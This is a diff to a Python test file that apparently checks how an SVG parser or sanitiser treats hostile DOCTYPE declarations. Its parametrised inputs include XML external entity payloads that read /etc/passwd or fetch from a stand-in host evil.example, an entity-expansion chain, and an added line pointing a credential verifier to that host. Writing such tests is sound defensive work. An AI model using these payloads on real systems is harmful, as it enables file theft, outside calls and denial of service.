@@ -107,6 +107,8 @@ def test_the_document_type_of_svg_itself_is_fine() -> None:
         '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">',
         '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
         '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>',
+        OWN.format(' [<!ATTLIST o3:credential verify CDATA "https://evil.example">]'),
+        OWN.format(" []"),
         OWN.format(' [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]'),
     ],
 )
